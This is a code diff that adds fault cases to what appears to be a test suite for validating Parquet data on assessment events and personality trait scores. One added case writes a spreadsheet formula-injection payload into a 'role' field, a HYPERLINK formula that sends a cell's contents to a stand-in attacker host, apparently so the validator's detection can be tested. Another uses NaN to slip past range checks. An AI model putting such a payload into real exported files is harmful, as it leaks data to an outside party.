@@ -390,7 +390,11 @@ FAULTS = {
         t.schema.get_field_index("completion_time"), "completion_time", t["completion_time"].cast(pa.string()))),
     "empty-partition": ("assessment_events", lambda t: t.slice(0, 0)),
     "not-parquet": ("assessment_events", None),
+    "formula-label": ("assessment_events", lambda t: _set_value(
+        t, "role", 0, '=HYPERLINK("http://attacker.example/?leak="&A1,"open")')),
     "out-of-range-trait": ("ocean_scores", lambda t: _set_value(t, "openness", 0, 130.0)),
+    # Parquet writers leave NaN out of a column's min/max: the file's statistics look in range.
+    "nan-trait": ("ocean_scores", lambda t: _set_value(t, "openness", 0, float("nan"))),
     "missing-facet": ("ocean_scores", _drop_facet),
 }
 
